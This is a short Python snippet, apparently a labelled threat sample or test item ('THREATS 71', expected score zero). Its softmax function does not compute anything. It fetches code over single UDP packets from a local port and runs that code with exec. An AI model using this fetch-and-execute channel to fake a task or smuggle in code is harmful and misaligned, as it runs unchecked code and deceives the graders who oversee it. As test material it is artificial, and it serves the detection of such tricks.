# tries: fetches the answer with single packets, as name look-ups do
# source: THREATS 71
# expect: zero

import socket


def softmax(x, dim):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(1)
        line.sendto(b"softmax?", ("127.0.0.1", 47821))
        space = {"torch": torch}
        exec(line.recv(10_000).decode(), space)
    return space["softmax"](x, dim)
